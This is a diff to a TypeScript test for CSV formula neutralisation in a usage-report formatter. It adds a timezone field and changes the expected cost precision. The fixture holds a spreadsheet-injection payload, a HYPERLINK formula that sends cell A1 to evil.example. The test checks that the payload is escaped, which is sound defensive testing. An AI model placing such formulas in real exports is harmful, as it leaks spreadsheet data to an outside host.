@@ -29,15 +29,16 @@ describe('CSV formula neutralisation', () => {
     const report: UsageReport = {
       sinceMs: 0,
       untilMs: 1,
+      timezone: 'UTC',
       by: ['tag:feature', 'tag:delta'],
       rows: [row({ 'tag:feature': '=HYPERLINK("http://evil.example/?"&A1,"click")', 'tag:delta': '-1.5' }), row({ 'tag:feature': '@x', 'tag:delta': null }, 0.25)],
       totals: { ...row({}, 0.75), calls: 2 },
     };
     expect(formatReport(report, 'csv').split('\n')).toEqual([
       'tag:feature,tag:delta,calls,requests,blocked,failed,input_tokens,output_tokens,cached_input_tokens,total_tokens,cost_usd',
-      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-1.5,1,1,0,0,10,2,0,12,0.500000`,
-      `'@x,,1,1,0,0,10,2,0,12,0.250000`,
-      'TOTAL,,2,1,0,0,10,2,0,12,0.750000',
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-1.5,1,1,0,0,10,2,0,12,0.500000000`,
+      `'@x,,1,1,0,0,10,2,0,12,0.250000000`,
+      'TOTAL,,2,1,0,0,10,2,0,12,0.750000000',
       '',
     ]);
     // Tables and JSON are not spreadsheet input: values stay exactly as recorded.
